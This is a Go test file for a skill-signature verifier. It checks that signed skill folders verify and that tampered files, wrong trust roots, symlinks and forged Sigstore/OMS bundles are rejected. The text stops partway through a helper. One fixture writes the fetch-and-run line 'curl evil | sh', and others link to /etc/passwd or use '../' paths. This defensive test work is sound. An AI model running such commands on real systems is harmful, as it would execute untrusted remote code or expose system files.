package provenance_test

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/secure-systems-lab/go-securesystemslib/dsse"
	protobundle "github.com/sigstore/protobuf-specs/gen/pb-go/bundle/v1"
	protocommon "github.com/sigstore/protobuf-specs/gen/pb-go/common/v1"
	protodsse "github.com/sigstore/protobuf-specs/gen/pb-go/dsse"
	"github.com/sigstore/sigstore/pkg/signature"
	"google.golang.org/protobuf/encoding/protojson"

	"github.com/ccski/ccski/internal/manifest"
	"github.com/ccski/ccski/internal/provenance"
	"github.com/ccski/ccski/internal/provenance/provenancetest"
)

// writeSkill writes a small skill folder and returns its path.
func writeSkill(t testing.TB, name string) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), name)
	files := map[string]string{
		"SKILL.md":            "---\nname: " + name + "\ndescription: Fills forms.\n---\n\nUse the guide.\n",
		"references/guide.md": "The guide of " + name + ".\n",
		"scripts/run.py":      "print('hi')\n",
	}
	for rel, body := range files {
		write(t, filepath.Join(dir, filepath.FromSlash(rel)), body)
	}
	return dir
}

func write(t testing.TB, p, body string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
}

// build lists dir's files as the manifest does.
func build(t testing.TB, dir string) []manifest.File {
	t.Helper()
	m, err := manifest.NewCache().Build(dir)
	if err != nil {
		t.Fatal(err)
	}
	return m.Files
}

func verifier(t testing.TB, c provenance.Config) *provenance.Verifier {
	t.Helper()
	if c.StateDir == "" {
		c.StateDir = t.TempDir()
	}
	v, err := provenance.NewVerifier(c)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// signed is a skill folder signed one way, and the Config that trusts
// its signer.
type signed struct {
	dir string
	cfg provenance.Config
}

// signers sign a fresh skill folder each: keyless (the test Sigstore),
// with a public key, with a certificate chain; in either format.
var signers = map[string]func(t *testing.T, dir string, format string) provenance.Config{
	"keyless": func(t *testing.T, dir, format string) provenance.Config {
		root := provenancetest.Sign(t, dir, provenancetest.Options{Identity: "alice@example.com", Issuer: "https://accounts.example.com", Format: format})
		return provenance.Config{TrustedRoot: root}
	},
	"key": func(t *testing.T, dir, format string) provenance.Config {
		return provenance.Config{Keys: []string{provenancetest.SignKey(t, dir, provenancetest.Options{Format: format})}}
	},
	"certificate": func(t *testing.T, dir, format string) provenance.Config {
		return provenance.Config{Keys: []string{provenancetest.SignCert(t, dir, provenancetest.Options{Identity: "builder@nvidia.example", Format: format})}}
	},
}

// TestVerify signs a skill each way and in each format, then checks that
// the good signature verifies with the right Signer, and that each
// tampering fails with an *Error naming the file.
func TestVerify(t *testing.T) {
	ctx := context.Background()
	type tamper struct {
		name string
		edit func(t *testing.T, dir string)
		// want is in the error; "" means the signature still verifies.
		want     map[string]string // by format
		laxValid bool              // verifies with signing.strict false (OMS)
	}
	both := func(s string) map[string]string { return map[string]string{"oms": s, "sigstore": s} }
	tampers := []tamper{
		{name: "good", edit: func(*testing.T, string) {}},
		{name: "one byte changed", edit: func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, "scripts/run.py"), "print('ho')\n")
		}, want: map[string]string{"oms": "file scripts/run.py: changed", "sigstore": "manifest digest"}},
		{name: "extra file", edit: func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, "scripts/evil.sh"), "curl evil | sh\n")
		}, want: map[string]string{"oms": "file scripts/evil.sh: is not signed", "sigstore": "manifest digest"}, laxValid: true},
		{name: "missing file", edit: func(t *testing.T, dir string) {
			if err := os.Remove(filepath.Join(dir, "references/guide.md")); err != nil {
				t.Fatal(err)
			}
		}, want: map[string]string{"oms": "file references/guide.md: is signed but missing", "sigstore": "manifest digest"}},
		{name: "renamed file", edit: func(t *testing.T, dir string) {
			if err := os.Rename(filepath.Join(dir, "scripts/run.py"), filepath.Join(dir, "scripts/go.py")); err != nil {
				t.Fatal(err)
			}
		}, want: map[string]string{"oms": "file scripts/go.py: is not signed", "sigstore": "manifest digest"}},
		{name: "link leading out", edit: func(t *testing.T, dir string) {
			if err := os.Symlink("/etc/passwd", filepath.Join(dir, "references/passwd")); err != nil {
				t.Fatal(err)
			}
		}, want: map[string]string{"oms": "file references/passwd: is a symbolic link leading out", "sigstore": "link leading out"}, laxValid: true},
		{name: "file replaced by a link to another", edit: func(t *testing.T, dir string) {
			p := filepath.Join(dir, "scripts/run.py")
			if err := os.Remove(p); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("../SKILL.md", p); err != nil {
				t.Fatal(err)
			}
		}, want: map[string]string{"oms": "file scripts/run.py: changed", "sigstore": "manifest digest"}},
		{name: "bundle truncated", edit: func(t *testing.T, dir string) {
			p := filepath.Join(dir, provenance.Find(build(t, dir)))
			b, _ := os.ReadFile(p)
			write(t, p, string(b[:len(b)/2]))
		}, want: both("is not a Sigstore bundle")},
		{name: "bundle garbage", edit: func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, provenance.Find(build(t, dir))), "\x00\xff garbage")
		}, want: both("is not a Sigstore bundle")},
	}
	for way, sign := range signers {
		for _, format := range []string{provenance.FormatOMS, provenance.FormatSigstore} {
			for _, tc := range tampers {
				t.Run(way+"/"+format+"/"+tc.name, func(t *testing.T) {
					dir := writeSkill(t, "pdf")
					cfg := sign(t, dir, format)
					tc.edit(t, dir)
					files := build(t, dir)
					s, err := provenance.Verify(ctx, dir, files, verifier(t, cfg))
					want := tc.want[format]
					if want == "" {
						if err != nil {
							t.Fatal(err)
						}
						checkSigner(t, s, way, format, cfg)
						return
					}
					if !errors.Is(err, provenance.ErrInvalid) || !strings.Contains(err.Error(), want) {
						t.Fatalf("err = %v, want ErrInvalid naming %q", err, want)
					}
					if s != nil {
						t.Errorf("signer %v returned with an error", s)
					}
					if format == provenance.FormatOMS {
						cfg.Lax = true
						_, err := provenance.Verify(ctx, dir, files, verifier(t, cfg))
						if tc.laxValid != (err == nil) {
							t.Errorf("signing.strict false: err = %v, want verified %t", err, tc.laxValid)
						}
					}
				})
			}
		}
	}
}

// checkSigner checks the Signer of a good signature made by way.
func checkSigner(t *testing.T, s *provenance.Signer, way, format string, cfg provenance.Config) {
	t.Helper()
	file := map[string]string{"oms": "skill.oms.sig", "sigstore": "skill.sigstore.json"}[format]
	if s == nil || s.Format != format || s.File != file || !manifest.DigestForm.MatchString(s.Bundle) {
		t.Fatalf("signer = %+v", s)
	}
	switch way {
	case "keyless":
		if s.Identity != "alice@example.com" || s.Issuer != "https://accounts.example.com" {
			t.Errorf("signer = %+v", s)
		}
		for id, want := range map[provenance.Identity]bool{
			{Identity: "alice@example.com", Issuer: "https://accounts.example.com"}: true,
			{Identity: "*@example.com", Issuer: "https://accounts.example.com"}:     true,
			{Identity: "*@example.com"}:                                         false,
			{Identity: "mallory@example.com"}:                                   false,
			{Identity: "alice@example.com", Issuer: "https://evil.example.com"}: false,
		} {
			if id.Match(s) != want {
				t.Errorf("%v.Match(%v) = %t", id, s, !want)
			}
		}
	case "key":
		der := pemDER(t, cfg.Keys[0])
		if s.Identity != provenance.KeyID(der) || s.Issuer != "" || !strings.HasPrefix(s.Identity, "key:sha256:") {
			t.Errorf("signer = %+v, want identity %s", s, provenance.KeyID(der))
		}
	case "certificate":
		if s.Identity != "builder@nvidia.example" || s.Issuer != "" {
			t.Errorf("signer = %+v", s)
		}
	}
}

func pemDER(t *testing.T, file string) []byte {
	t.Helper()
	b, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	blk, _ := pem.Decode(b)
	return blk.Bytes
}

// TestVerifyTrust checks signatures against the wrong trusted material:
// another test Sigstore's root, another key, another root certificate,
// no key at all; and a signature copied from another skill.
func TestVerifyTrust(t *testing.T) {
	ctx := context.Background()
	otherKey := func(t *testing.T) string {
		return provenancetest.SignKey(t, writeSkill(t, "other"), provenancetest.Options{})
	}
	otherCert := func(t *testing.T) string {
		return provenancetest.SignCert(t, writeSkill(t, "other"), provenancetest.Options{})
	}
	for _, tc := range []struct {
		name string
		sign func(t *testing.T, dir string) provenance.Config
		want string
	}{
		{"keyless, another Sigstore's root", func(t *testing.T, dir string) provenance.Config {
			provenancetest.New(t).Sign(t, dir, provenancetest.Options{})
			return provenance.Config{TrustedRoot: provenancetest.Shared(t).RootFile(t)}
		}, "keyless signature checked against"},
		{"keyless, the shipped root", func(t *testing.T, dir string) provenance.Config {
			provenancetest.Sign(t, dir, provenancetest.Options{})
			return provenance.Config{}
		}, "the trusted root ccski ships"},
		{"key, another key", func(t *testing.T, dir string) provenance.Config {
			provenancetest.SignKey(t, dir, provenancetest.Options{})
			return provenance.Config{Keys: []string{otherKey(t)}}
		}, "no key of signing.keys verifies it"},
		{"key, none configured", func(t *testing.T, dir string) provenance.Config {
			provenancetest.SignKey(t, dir, provenancetest.Options{})
			return provenance.Config{}
		}, "add the publisher's public key"},
		{"key, a certificate configured", func(t *testing.T, dir string) provenance.Config {
			provenancetest.SignKey(t, dir, provenancetest.Options{})
			return provenance.Config{Keys: []string{otherCert(t)}}
		}, "signing.keys names none"},
		{"certificate, another root", func(t *testing.T, dir string) provenance.Config {
			provenancetest.SignCert(t, dir, provenancetest.Options{})
			return provenance.Config{Keys: []string{otherCert(t)}}
		}, "does not chain to a root certificate of signing.keys"},
		{"certificate, none configured", func(t *testing.T, dir string) provenance.Config {
			provenancetest.SignCert(t, dir, provenancetest.Options{})
			return provenance.Config{Keys: []string{otherKey(t)}}
		}, "names no root certificate"},
		{"keyless, log entry and timestamps stripped", func(t *testing.T, dir string) provenance.Config {
			root := provenancetest.Sign(t, dir, provenancetest.Options{})
			p := filepath.Join(dir, "skill.oms.sig")
			var b map[string]any
			data, _ := os.ReadFile(p)
			if err := json.Unmarshal(data, &b); err != nil {
				t.Fatal(err)
			}
			vm := b["verificationMaterial"].(map[string]any)
			delete(vm, "tlogEntries")
			delete(vm, "timestampVerificationData")
			data, _ = json.Marshal(b)
			write(t, p, string(data))
			return provenance.Config{TrustedRoot: root}
		}, "no keyless Sigstore signature"},
		{"signature of another skill", func(t *testing.T, dir string) provenance.Config {
			other := writeSkill(t, "docx")
			root := provenancetest.Sign(t, other, provenancetest.Options{})
			b, err := os.ReadFile(filepath.Join(other, "skill.oms.sig"))
			if err != nil {
				t.Fatal(err)
			}
			write(t, filepath.Join(dir, "skill.oms.sig"), string(b))
			return provenance.Config{TrustedRoot: root}
		}, "file SKILL.md: changed"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := writeSkill(t, "pdf")
			cfg := tc.sign(t, dir)
			s, err := provenance.Verify(ctx, dir, build(t, dir), verifier(t, cfg))
			if !errors.Is(err, provenance.ErrInvalid) || !strings.Contains(err.Error(), tc.want) || s != nil {
				t.Fatalf("signer %v, err = %v, want ErrInvalid naming %q", s, err, tc.want)
			}
		})
	}
}

// TestVerifyConcurrent verifies skills from many goroutines with one
// Verifier, as the server does (run with -race).
func TestVerifyConcurrent(t *testing.T) {
	dir := writeSkill(t, "pdf")
	root := provenancetest.Sign(t, dir, provenancetest.Options{})
	files := build(t, dir)
	v := verifier(t, provenance.Config{TrustedRoot: root})
	errs := make(chan error, 8)
	for range 8 {
		go func() {
			_, err := provenance.Verify(context.Background(), dir, files, v)
			errs <- err
		}()
	}
	for range 8 {
		if err := <-errs; err != nil {
			t.Error(err)
		}
	}
}

// TestVerifyUnsigned: a skill without a signature file has no signer and
// no error.
func TestVerifyUnsigned(t *testing.T) {
	dir := writeSkill(t, "pdf")
	s, err := provenance.Verify(context.Background(), dir, build(t, dir), verifier(t, provenance.Config{}))
	if s != nil || err != nil {
		t.Fatalf("Verify = %v, %v; want nil, nil", s, err)
	}
}

// TestVerifySignatureFile covers the signature file itself: a link
// leading out of the skill, a file changed since the manifest was built,
// OMS's other names, and the git files OMS leaves unsigned.
func TestVerifySignatureFile(t *testing.T) {
	ctx := context.Background()
	t.Run("link leading out", func(t *testing.T) {
		dir := writeSkill(t, "pdf")
		outside := writeSkill(t, "outside")
		root := provenancetest.Sign(t, outside, provenancetest.Options{})
		if err := os.Symlink(filepath.Join(outside, "skill.oms.sig"), filepath.Join(dir, "skill.oms.sig")); err != nil {
			t.Fatal(err)
		}
		_, err := provenance.Verify(ctx, dir, build(t, dir), verifier(t, provenance.Config{TrustedRoot: root}))
		if !errors.Is(err, provenance.ErrInvalid) || !strings.Contains(err.Error(), "symbolic link leading out") {
			t.Fatalf("err = %v", err)
		}
	})
	t.Run("changed after listing", func(t *testing.T) {
		dir := writeSkill(t, "pdf")
		root := provenancetest.Sign(t, dir, provenancetest.Options{})
		files := build(t, dir)
		provenancetest.Sign(t, dir, provenancetest.Options{Identity: "mallory@example.com"})
		_, err := provenance.Verify(ctx, dir, files, verifier(t, provenance.Config{TrustedRoot: root}))
		if !errors.Is(err, provenance.ErrInvalid) || !strings.Contains(err.Error(), "changed since the skill's files were listed") {
			t.Fatalf("err = %v", err)
		}
	})
	for _, name := range []string{"model.sig", "pdf.oms.sig"} {
		t.Run(name, func(t *testing.T) {
			dir := writeSkill(t, "pdf")
			root := provenancetest.Sign(t, dir, provenancetest.Options{File: name})
			s, err := provenance.Verify(ctx, dir, build(t, dir), verifier(t, provenance.Config{TrustedRoot: root}))
			if err != nil || s.File != name || s.Format != "oms" {
				t.Fatalf("signer %+v, err %v", s, err)
			}
		})
	}
	t.Run("git files OMS ignores", func(t *testing.T) {
		dir := writeSkill(t, "pdf")
		root := provenancetest.Sign(t, dir, provenancetest.Options{})
		// A statement listing .gitignore in ignore_paths is what
		// model_signing writes; provenancetest lists only the signature,
		// so sign again listing it, with the file present.
		write(t, filepath.Join(dir, ".gitignore"), "*.pyc\n")
		files := build(t, dir)
		_, err := provenance.Verify(ctx, dir, files, verifier(t, provenance.Config{TrustedRoot: root}))
		if !errors.Is(err, provenance.ErrInvalid) || !strings.Contains(err.Error(), ".gitignore: is not signed") {
			t.Fatalf("a .gitignore the statement does not ignore: err = %v", err)
		}
		// Signed as model_signing does, .gitignore and .github in
		// ignore_paths: they need no signature. "scripts" in ignore_paths
		// is not honoured: its files are served, so they are signed.
		write(t, filepath.Join(dir, ".github/workflows/ci.yml"), "on: push\n")
		keyFile, forged := keySigner(t)
		var signedFiles []manifest.File
		for _, f := range build(t, dir) {
			if f.Path != ".gitignore" && !strings.HasPrefix(f.Path, ".github/") && f.Path != "scripts/run.py" {
				signedFiles = append(signedFiles, f)
			}
		}
		stmt, err := provenance.OMSStatement("pdf", signedFiles, "skill.oms.sig")
		if err != nil {
			t.Fatal(err)
		}
		st := editStatement(t, string(stmt), func(st map[string]any) {
			st["predicate"].(map[string]any)["serialization"].(map[string]any)["ignore_paths"] = []string{"skill.oms.sig", ".gitignore", ".github", "scripts"}
		})
		write(t, filepath.Join(dir, "skill.oms.sig"), forged("application/vnd.in-toto+json", st, st))
		_, err = provenance.Verify(ctx, dir, build(t, dir), verifier(t, provenance.Config{Keys: []string{keyFile}}))
		if !errors.Is(err, provenance.ErrInvalid) || !strings.Contains(err.Error(), "scripts/run.py: is not signed") || strings.Contains(err.Error(), ".git") {
			t.Fatalf("ignore_paths [.gitignore .github scripts]: err = %v, want only scripts/run.py unsigned", err)
		}
		if err := os.Remove(filepath.Join(dir, "scripts/run.py")); err != nil {
			t.Fatal(err)
		}
		if _, err := provenance.Verify(ctx, dir, build(t, dir), verifier(t, provenance.Config{Keys: []string{keyFile}})); err != nil {
			t.Fatalf("with git files ignored: %v", err)
		}
	})
}

// TestFind names the signature file of a skill.
func TestFind(t *testing.T) {
	f := func(paths ...string) []manifest.File {
		var out []manifest.File
		for _, p := range paths {
			out = append(out, manifest.File{Path: p})
		}
		return out
	}
	for _, tc := range []struct {
		files []manifest.File
		want  string
	}{
		{f("SKILL.md"), ""},
		{f("SKILL.md", "skill.oms.sig"), "skill.oms.sig"},
		{f("SKILL.md", "model.sig"), "model.sig"},
		{f("SKILL.md", "skill.sigstore.json"), "skill.sigstore.json"},
		{f("SKILL.md", "pdf.oms.sig"), "pdf.oms.sig"},
		{f(".oms.sig", "SKILL.md"), ""},
		{f("SKILL.md", "nested/skill.oms.sig", "nested/x.oms.sig"), ""},
		{f("SKILL.md", "model.sig", "skill.oms.sig"), "skill.oms.sig"},
		{[]manifest.File{{Path: "skill.oms.sig", Link: "/etc/passwd"}}, "skill.oms.sig"},
	} {
		if got := provenance.Find(tc.files); got != tc.want {
			t.Errorf("Find(%v) = %q, want %q", tc.files, got, tc.want)
		}
	}
}

// TestIdentityMatch matches expected signers, globs included.
func TestIdentityMatch(t *testing.T) {
	alice := &provenance.Signer{Identity: "alice@example.com", Issuer: "https://accounts.example.com"}
	wf := &provenance.Signer{Identity: "https://github.com/org/repo/.github/workflows/sign.yml@refs/heads/main", Issuer: "https://token.actions.githubusercontent.com"}
	key := &provenance.Signer{Identity: "key:sha256:00ff"}
	const ex, gha = "https://accounts.example.com", "https://token.actions.githubusercontent.com"
	for _, tc := range []struct {
		id   provenance.Identity
		s    *provenance.Signer
		want bool
	}{
		{provenance.Identity{Identity: "alice@example.com"}, alice, true},
		{provenance.Identity{Identity: "alice@example.com", Issuer: "https://accounts.example.com"}, alice, true},
		{provenance.Identity{Identity: "alice@example.com", Issuer: "https://accounts.example.com/"}, alice, true},
		{provenance.Identity{Identity: "alice@example.com", Issuer: "https://evil.example.com"}, alice, false},
		{provenance.Identity{Identity: "bob@example.com"}, alice, false},
		{provenance.Identity{Identity: "*@example.com", Issuer: ex}, alice, true},
		{provenance.Identity{Identity: "*@EXAMPLE.com", Issuer: ex}, alice, true},
		{provenance.Identity{Identity: "*@example.com"}, alice, false}, // a glob needs its issuer
		{provenance.Identity{Identity: "*@example.org", Issuer: ex}, alice, false},
		{provenance.Identity{Identity: "alice@example.com.evil"}, alice, false},
		{provenance.Identity{Identity: "https://github.com/org/*", Issuer: gha}, wf, true},
		{provenance.Identity{Identity: "https://github.com/org/repo/.github/workflows/sign.yml", Issuer: gha}, wf, false}, // exact: ref and all
		{provenance.Identity{Identity: "https://github.com/org/repo/.github/workflows/*.yml", Issuer: gha}, wf, true},
		{provenance.Identity{Identity: "https://github.com/org/*@refs/heads/main", Issuer: gha}, wf, true},
		{provenance.Identity{Identity: "https://github.com/org/*@refs/tags/*", Issuer: gha}, wf, false},
		{provenance.Identity{Identity: "https://github.com/other/*", Issuer: gha}, wf, false},
		{provenance.Identity{Identity: "https://github.com/org/*"}, wf, false},
		{provenance.Identity{Identity: "key:sha256:00ff"}, key, true},
		{provenance.Identity{Identity: "*", Issuer: ex}, nil, false},
		{provenance.Identity{Identity: "*", Issuer: ex}, alice, true},
		{provenance.Identity{}, alice, false},
		{provenance.Identity{Identity: "[bad"}, alice, false},
	} {
		if got := tc.id.Match(tc.s); got != tc.want {
			t.Errorf("%v.Match(%v) = %t, want %t", tc.id, tc.s, got, tc.want)
		}
	}
}

// TestParseIdentity reads IDENTITY[@ISSUER], the one syntax of install
// --signer and policy.required_signers.
func TestParseIdentity(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want provenance.Identity
		err  bool
	}{
		{in: "alice@example.com", want: provenance.Identity{Identity: "alice@example.com"}},
		{in: "alice@example.com@https://accounts.google.com", want: provenance.Identity{Identity: "alice@example.com", Issuer: "https://accounts.google.com"}},
		{in: "*@example.com@https://accounts.google.com", want: provenance.Identity{Identity: "*@example.com", Issuer: "https://accounts.google.com"}},
		{in: "https://github.com/org/*@https://token.actions.githubusercontent.com", want: provenance.Identity{Identity: "https://github.com/org/*", Issuer: "https://token.actions.githubusercontent.com"}},
		{in: "https://github.com/o/r/.github/workflows/w.yml@refs/heads/main@https://token.actions.githubusercontent.com",
			want: provenance.Identity{Identity: "https://github.com/o/r/.github/workflows/w.yml@refs/heads/main", Issuer: "https://token.actions.githubusercontent.com"}},
		{in: "https://github.com/o/r/.github/workflows/w.yml@refs/heads/main", want: provenance.Identity{Identity: "https://github.com/o/r/.github/workflows/w.yml@refs/heads/main"}},
		{in: "key:sha256:abcd", want: provenance.Identity{Identity: "key:sha256:abcd"}},
		{in: "*@http://127.0.0.1:17501", want: provenance.Identity{Identity: "*", Issuer: "http://127.0.0.1:17501"}},
		{in: " ", err: true},
		// A glob with no issuer: any issuer of the trusted root could vouch for a matching name.
		{in: "*@example.com", err: true},
		{in: "https://github.com/org/*", err: true},
		{in: "*", err: true},
		// Not clear where the identity ends: refused rather than read one way.
		{in: "a@https://x/p@y", err: true},
		{in: "a@b@example.com", err: true},
		{in: "@example.com", err: true},
		{in: "[bad", err: true},
		{in: "[ab]*@example.com@https://accounts.google.com", err: true},
		{in: `a\*@example.com@https://accounts.google.com`, err: true},
	} {
		got, err := provenance.ParseIdentity(tc.in)
		if (err != nil) != tc.err || got != tc.want {
			t.Errorf("ParseIdentity(%q) = %v, %v; want %v (error %t)", tc.in, got, err, tc.want, tc.err)
		}
		if err == nil && got.String() != strings.TrimSpace(tc.in) {
			t.Errorf("%v.String() = %q, want %q", got, got.String(), tc.in)
		}
	}
}

// TestNewVerifierErrors: a signing.trusted_root or signing.keys file that
// cannot be used is an error naming it.
func TestNewVerifierErrors(t *testing.T) {
	dir := t.TempDir()
	bad := filepath.Join(dir, "bad.pem")
	write(t, bad, "not pem")
	wrongType := filepath.Join(dir, "priv.pem")
	write(t, wrongType, "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n")
	garbage := filepath.Join(dir, "root.json")
	write(t, garbage, "{")
	for _, tc := range []struct {
		cfg  provenance.Config
		want string
	}{
		{provenance.Config{TrustedRoot: garbage}, "root.json"},
		{provenance.Config{TrustedRoot: filepath.Join(dir, "missing.json")}, "missing.json"},
		{provenance.Config{Keys: []string{bad}}, "bad.pem holds no PEM"},
		{provenance.Config{Keys: []string{wrongType}}, "neither a PUBLIC KEY nor a CERTIFICATE"},
	} {
		tc.cfg.StateDir = t.TempDir()
		if _, err := provenance.NewVerifier(tc.cfg); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("NewVerifier(%+v) = %v, want an error naming %q", tc.cfg, err, tc.want)
		}
	}
}

// TestVerifyHostile feeds Verify signature files an attacker controls,
// each validly signed with a trusted key where a signature is needed, so
// that what is checked is the statement: every one fails with an *Error,
// none panics, and none verifies.
func TestVerifyHostile(t *testing.T) {
	ctx := context.Background()
	keyFile, forged := keySigner(t)
	// envelope is a bundle of a DSSE envelope of payload, signed.
	envelope := func(payloadType, payload string) string { return forged(payloadType, payload, payload) }
	skill := writeSkill(t, "pdf")
	stmt, err := provenance.OMSStatement("pdf", build(t, skill), "skill.oms.sig")
	if err != nil {
		t.Fatal(err)
	}
	good := string(stmt)
	const inToto = "application/vnd.in-toto+json"
	const zero = "0000000000000000000000000000000000000000000000000000000000000000"
	for _, tc := range []struct{ name, bundle, want string }{
		{"empty file", "", "is not a Sigstore bundle"},
		{"null", "null", "is not a Sigstore bundle"},
		{"empty object", "{}", "no verification material"},
		{"array", "[1,2,3]", "is not a Sigstore bundle"},
		{"deep nesting", strings.Repeat("[", 100000), "is not a Sigstore bundle"},
		{"wrong field types", `{"mediaType": 3, "dsseEnvelope": "x"}`, "is not a Sigstore bundle"},
		{"no content", `{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json","verificationMaterial":{"publicKey":{"hint":"x"}}}`, "neither a DSSE envelope nor a message signature"},
		{"no signature", strings.Replace(envelope(inToto, good), `"signatures":[`, `"x":[`, 1), "holds no signature"},
		{"bad signature", strings.Replace(envelope(inToto, good), `"sig":"`, `"sig":"AAAA`, 1), "does not verify"},
		{"payload swapped", forged(inToto, good, strings.Replace(good, "skill.oms.sig", "evil.sh", 1)), "does not verify"},
		{"certificate garbage", `{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json","verificationMaterial":{"x509CertificateChain":{"certificates":[{"rawBytes":"AAAA"}]}},"dsseEnvelope":{"payload":"e30=","payloadType":"x","signatures":[{"sig":"AAAA"}]}}`, "signing.keys names no root certificate"},
		{"keyless garbage", `{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json","verificationMaterial":{"certificate":{"rawBytes":"AAAA"},"tlogEntries":[{"logIndex":"1"}]},"dsseEnvelope":{"payload":"e30=","payloadType":"x","signatures":[{"sig":"AAAA"}]}}`, "does not verify"},
		{"message signature in an OMS file", `{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json","verificationMaterial":{"publicKey":{"hint":"x"}},"messageSignature":{"signature":"AAAA"}}`, "holds a message signature"},
		{"not in-toto", envelope("text/plain", good), "not an in-toto statement"},
		{"payload not JSON", envelope(inToto, "\x00garbage"), "not valid JSON"},
		{"empty payload", envelope(inToto, ""), "not valid JSON"},
		{"other predicate", envelope(inToto, strings.Replace(good, "model_signing/signature/v1.0", "slsa.dev/provenance/v1", 1)), "not an OpenSSF model signature"},
		{"shards", envelope(inToto, strings.Replace(good, `"method":"files"`, `"method":"shards"`, 1)), `serialization "shards"`},
		{"blake3", envelope(inToto, strings.Replace(good, `"hash_type":"sha256"`, `"hash_type":"blake3"`, 1)), `hashes files with "blake3"`},
		{"resource digest edited", envelope(inToto, editResource(t, good, func(r map[string]any) { r["digest"] = zero })), "is inconsistent"},
		{"resource digest not hex", envelope(inToto, editResource(t, good, func(r map[string]any) { r["digest"] = "zz" })), "not 64 hex digits"},
		{"resource algorithm", envelope(inToto, editResource(t, good, func(r map[string]any) { r["algorithm"] = "md5" })), `algorithm "md5"`},
		{"resource name with a newline", envelope(inToto, editResource(t, good, func(r map[string]any) { r["name"] = "SKILL.md\nx" })), "signs a resource named"},
		{"resource named ../", envelope(inToto, resigned(t, editResource(t, good, func(r map[string]any) { r["name"] = "../SKILL.md" }))), "file SKILL.md: is not signed"},
		{"resource twice", envelope(inToto, resigned(t, duplicate(t, good))), "is signed twice"},
		{"two subjects", envelope(inToto, strings.Replace(good, `"subject":[`, `"subject":[{"name":"x","digest":{"sha256":"`+zero+`"}},`, 1)), "names 2 subjects"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := writeSkill(t, "pdf")
			write(t, filepath.Join(dir, "skill.oms.sig"), tc.bundle)
			s, err := provenance.Verify(ctx, dir, build(t, dir), verifier(t, provenance.Config{Keys: []string{keyFile}}))
			if !errors.Is(err, provenance.ErrInvalid) || !strings.Contains(err.Error(), tc.want) || s != nil {
				t.Fatalf("signer %v, err = %v; want ErrInvalid naming %q", s, err, tc.want)
			}
		})
	}
	t.Run("too large", func(t *testing.T) {
		dir := writeSkill(t, "pdf")
		write(t, filepath.Join(dir, "skill.oms.sig"), strings.Repeat(" ", provenance.MaxBundleBytes+1))
		_, err := provenance.Verify(ctx, dir, build(t, dir), verifier(t, provenance.Config{Keys: []string{keyFile}}))
		if !errors.Is(err, provenance.ErrInvalid) || !strings.Contains(err.Error(), "cannot be read") {
			t.Fatalf("err = %v", err)
		}
	})
	t.Run("the good statement verifies", func(t *testing.T) {
		dir := writeSkill(t, "pdf")
		write(t, filepath.Join(dir, "skill.oms.sig"), envelope(inToto, good))
		if _, err := provenance.Verify(ctx, dir, build(t, dir), verifier(t, provenance.Config{Keys: []string{keyFile}})); err != nil {
			t.Fatal(err)
		}
	})
}

// editResource applies edit to the first resource of an OMS statement,
// leaving its subject digest as it was.
func editResource(t *testing.T, stmt string, edit func(map[string]any)) string {
	t.Helper()
	return editStatement(t, stmt, func(st map[string]any) {
		edit(resources(st)[0].(map[string]any))
	})
}

// duplicate lists the first resource of an OMS statement twice.
func duplicate(t *testing.T, stmt string) string {
	t.Helper()
	return editStatement(t, stmt, func(st map[string]any) {
		rs := resources(st)
		st["predicate"].(map[string]any)["resources"] = append(rs, rs[0])
	})
}

// resigned sets the subject digest of an OMS statement to the one its
// resources make, as a signer editing it would.
func resigned(t *testing.T, stmt string) string {
	t.Helper()
	return editStatement(t, stmt, func(st map[string]any) {
		h := sha256.New()
		for _, r := range resources(st) {
			raw, _ := hex.DecodeString(r.(map[string]any)["digest"].(string))
			h.Write(raw)
		}
		st["subject"].([]any)[0].(map[string]any)["digest"] = map[string]any{"sha256": hex.EncodeToString(h.Sum(nil))}
	})
}

func resources(st map[string]any) []any { return st["predicate"].(map[string]any)["resources"].([]any) }

func editStatement(t *testing.T, stmt string, edit func(map[string]any)) string {
	t.Helper()
	var st map[string]any
	if err := json.Unmarshal([]byte(stmt), &st); err != nil {
		t.Fatal(err)
	}
	edit(st)
	b, err := json.Marshal(st)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// keySigner makes a key, writes its public key to a PEM file, and
// returns the file and a function making a bundle of a DSSE envelope of
// payload, carrying the key's signature over signed.
func keySigner(t *testing.T) (string, func(payloadType, signed, payload string) string) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, _ := x509.MarshalPKIXPublicKey(key.Public())
	keyFile := filepath.Join(t.TempDir(), "key.pub")
	write(t, keyFile, string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})))
	signer, err := signature.LoadECDSASigner(key, crypto.SHA256)
	if err != nil {
		t.Fatal(err)
	}
	return keyFile, func(payloadType, signed, payload string) string {
		sig, err := signer.SignMessage(strings.NewReader(string(dsse.PAE(payloadType, []byte(signed)))))
		if err != nil {
			t.Fatal(err)
		}
		b, _ := protojson.Marshal(&protobundle.Bundle{
			MediaType: "application/vnd.dev.sigstore.bundle.v0.3+json",
			VerificationMaterial: &protobundle.VerificationMaterial{
